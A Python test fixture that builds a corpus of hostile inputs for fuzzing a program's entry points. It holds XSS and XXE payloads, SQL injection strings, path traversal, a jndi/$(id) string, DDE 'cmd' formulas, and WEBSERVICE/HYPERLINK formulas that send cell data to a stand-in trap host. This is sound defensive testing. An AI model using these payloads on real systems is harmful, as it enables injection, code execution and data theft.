"""The one corpus of hostile texts and files. Every entry of the program is tried with it (`entries.py` finds them).

A new trick goes in here once and reaches every entry. LOKET_CORPUS=besar tries all of it everywhere; CI tries a part
at each entry, another part at the next one, and all of it somewhere.
"""

import os
import unicodedata
from collections.abc import Iterator
from typing import Final
from zlib import crc32

LARGE: Final = os.environ.get("LOKET_CORPUS") == "besar"

TRAP: Final = "jebakan-loket"
"""A word in every path and address of the corpus: who opens one of these files gives himself away by it."""

MARKUP: Final = {
    "pdf_gambar": f'<img src="/tmp/{TRAP}.png" width="9" height="9"/>Contoh',
    "pdf_berkas": f'<img src="file:///etc/{TRAP}" valign="top"/>',
    "pdf_tutup": "Contoh</para>",
    "pdf_terbuka": "Contoh <b",
    "pdf_font": '<font name="TidakAda" size="999" color="nonesuch">Contoh</font>',
    "pdf_tautan": f'<a href="https://{TRAP}.invalid/">tekan</a><onDraw name="x" label="y"/>',
    "pdf_urut": '<seqreset id="x"/><seq/><unichar code="0x110000"/>',
    "qt_tebal": "<b>Contoh</b><br><h1>Besar</h1>",
    "qt_gambar": f"<html><body><img src='file:///{TRAP}'><img src='data:image/png;base64,AAAA'></body></html>",
    "qt_gaya": "<qt><style>*{font-size:900pt}</style><table border=9><tr><td>x</td></tr></table></qt>",
    "html_skrip": f"<script src='https://{TRAP}.invalid/x.js'>alert(1)</script>",
    "html_atribut": "\" onmouseover=\"alert(1)' onfocus='alert(2)",
    "html_komentar": "--><!-- ]]> <![CDATA[ <?xml version='1.0'?>",
    "entitas": "&lt;b&gt; &amp; &#60; &unknown; &#x110000; &",
    "xml_doctype": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/{TRAP}">]><a>&b;</a>',
    "markdown": f"# Judul\n[a](https://{TRAP}.invalid) ![b](/etc/{TRAP}) `kode` **tebal** | a | b |",
}
FORMULAS: Final = {
    "sama_dengan": "=1+1",
    "tambah": "+1+1",
    "kurang": "-1+1",
    "keong": "@SUM(1;1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "spasi": " =1+1",
    "lebar": "＝1+1",
    "dde": f"=cmd|'/C {TRAP}'!A0",
    "dde_dua": f'=DDE("cmd";"/C {TRAP}";"x")',
    "hyperlink": f'=HYPERLINK("https://{TRAP}.invalid/?"&A1;"tekan")',
    "webservice": f'=WEBSERVICE("https://{TRAP}.invalid/"&A1)',
    "larik": "{=SUM(A1:A9)}",
    "kutip": "'=1+1",
    "petik": '"=1+1',
    "galat": "#REF!",
    "csv": 'a;b,c\td|e"f""g',
    "csv_baris": 'a"\r\n"=1+1";"b',
    "xlsx_lolos": "_x000D_ _x003D_1+1 _x0000_",
}
CHARACTERS: Final = {
    "nul": "Con\0toh",
    "nul_saja": "\0",
    "kendali": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "lolos_terminal": "\x1b[2J\x1b]0;judul\x07",
    "surogat_atas": "Contoh \ud800",
    "surogat_bawah": "\udfff Contoh",
    "surogat_terbalik": "\udc00\ud800",
    "bukan_aksara": "\ufffe\uffff\U0001ffff\U0010ffff",
    "bidi": "Contoh \u202egpj.exe\u202c",
    "bidi_pulau": "\u2066Contoh\u2069\u2067\u2068\u061c\u200e\u200f",
    "lebar_nol": "Con\u200b\u200c\u200d\u2060\ufefftoh",
    "lebar_nol_saja": "\u200b\u2060\ufeff",
    "kosong_aneh": "\u00a0\u3000\u2000\u2028\u2029\u1680",
    "baris_unicode": "satu\u2028dua\u2029tiga\x85empat\x0blima\x0cenam",
    "baris": "satu\ndua\r\ntiga\rempat",
    "tumpukan": "Z" + "\u0300\u0301\u0302\u0316\u0489" * 20,
    "nfd": unicodedata.normalize("NFD", "Jérôme Ñandú"),
    "mekar": "\ufdfa" * 40,
    "arab": "محمد بن عبدالله",
    "jawa": "ꦲꦤꦕꦫꦏ",
    "cina": "陳大文",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈🇮🇩",
    "tag": "\U000e0001\U000e0041\U000e007f",
    "privat": "\ue000\U000f0000",
    "satu_huruf": "A",
    "petik_tunggal": "'",
    "angka_arab": "٠١٢٣٤٥٦٧٨٩",
    "turki": "İıŞşẞß",
    "tak_terputus": "W" * 290,
}
PATHS: Final = {
    "con": "CON",
    "nul_txt": "NUL.txt",
    "aux": "aux.",
    "com": "COM¹",
    "lpt": "lpt9.pdf",
    "titik": "Contoh. . .",
    "titik_saja": "..",
    "naik": f"../../../../etc/{TRAP}",
    "naik_windows": f"..\\..\\..\\{TRAP}",
    "mutlak": f"/etc/{TRAP}",
    "huruf_cakram": f"C:\\Windows\\{TRAP}",
    "unc": f"\\\\{TRAP}.invalid\\bagi\\x",
    "perangkat": f"\\\\?\\C:\\{TRAP}",
    "ads": "berkas.pdf:rahasia:$DATA",
    "url": f"file:///etc/{TRAP}",
    "rumah": "~/.ssh/id_rsa",
    "tanda": '<>:"/\\|?*',
    "pipa": f"| {TRAP} &",
    "panjang": "a" * 280,
}
LANGUAGES: Final = {
    "sql": "Contoh'; DROP TABLE permohonan; --",
    "sql_persen": "%_%\\%",
    "sql_union": "' UNION SELECT pin FROM officer --",
    "fts": 'NEAR(a b) OR * AND NOT "x',
    "fts_kolom": "name:* ^a -b (",
    "printf": "%s%n%d%(nama)s %5$*1$d",
    "kurawal": "{0.__class__.__mro__} {nama!r:>99999999}",
    "dolar": "${jndi:ldap://x} $(id) `id` $nama",
    "jinja": "{{ 7*7 }}{% for a in b %}",
    "kurawal_buka": "{",
    "isian": "{nama} {nik} {{nama}}",
    "regex": "(a+)+$[",
    "json": '{"a": [1, null, "\\u0000"]}',
    "toml": 'nama = "x"\n[[a]]\n',
    "pilihan": "--kepala=x",
    "angka_besar": "9" * 400,
    "angka_aneh": "1e309",
    "nan": "NaN",
    "kurang_nol": "-0",
    "none": "None",
}
SIZES: Final = {
    "seribu_baris": "x\n" * 1_000,
    "dua_ribu_satu": "y" * 2_001,
    "sejuta": "Contoh " * 150_000,
    "sejuta_gabung": "e" + "\u0301" * 500_000,
}
SHORT: Final = 5_000
TEXTS: Final[dict[str, str]] = {**MARKUP, **FORMULAS, **CHARACTERS, **PATHS, **LANGUAGES, **SIZES}


def texts_for(entry: str, most: int) -> Iterator[tuple[str, str]]:
    """The texts tried at this entry: all of them, or `most` of them, others at each entry; the same in every run."""
    names = sorted(TEXTS)
    if not LARGE and most < len(names):
        start = crc32(entry.encode())
        step = 37  # prime to the number of texts, so that a few steps reach far
        names = [names[(start + n * step) % len(names)] for n in range(most)]
    for name in names:
        yield name, TEXTS[name]
